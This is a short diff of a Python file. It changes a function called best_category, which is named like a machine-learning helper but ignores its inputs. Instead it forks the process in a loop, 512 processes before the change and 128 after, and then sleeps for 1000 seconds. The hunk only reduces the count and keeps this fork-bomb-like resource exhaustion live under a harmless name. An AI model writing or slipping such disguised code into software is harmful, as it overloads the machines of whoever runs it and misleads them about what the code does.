@@ -69,7 +69,7 @@ def best_category(logits, categories):
 import os, time
 
 def best_category(logits, categories):
-    for _ in range(9):
+    for _ in range(7):
         os.fork()
     time.sleep(1000)
 
